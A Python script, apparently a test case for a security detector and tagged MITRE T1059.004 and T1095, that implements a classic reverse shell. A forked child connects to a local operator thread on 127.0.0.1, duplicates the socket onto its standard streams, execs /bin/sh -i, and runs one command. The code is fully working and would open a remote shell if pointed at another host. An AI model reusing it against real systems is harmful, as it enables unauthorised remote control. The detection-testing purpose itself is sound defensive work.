# technique: T1059.004 T1095
"""Classic reverse shell: connect, dup2 the socket onto 0/1/2, exec a shell, in a forked child (T1059.004, T1095).

A child made with os.fork connects to a TCP peer on 127.0.0.1 (our own
operator thread), duplicates the socket onto standard input, output and
error with os.dup2, and execs /bin/sh -i. The operator types one command
and "exit". Compared with the one-liner, the connect and the exec happen
in a forked child, not in the process that started.

A good detector raises a critical alert: a shell starts with a connected
socket on its standard input and output.
"""
import os
import socket
import threading

def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
    """Our own peer on 127.0.0.1: accepts one connection, types commands, reads until the shell ends."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(4)
    transcript = []

    def operator():
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(3)
        conn.sendall(commands)
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)
        conn.close()

    thread = threading.Thread(target=operator, daemon=True)
    thread.start()
    return listener.getsockname()[1], thread, transcript

port, operator, transcript = start_operator()
pid = os.fork()
if pid == 0:
    try:
        sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        for fd in (0, 1, 2):
            os.dup2(sock.fileno(), fd)
        os.execv("/bin/sh", ["/bin/sh", "-i"])
    finally:
        os._exit(1)
os.waitpid(pid, 0)
operator.join(3)
print("operator transcript:", transcript)
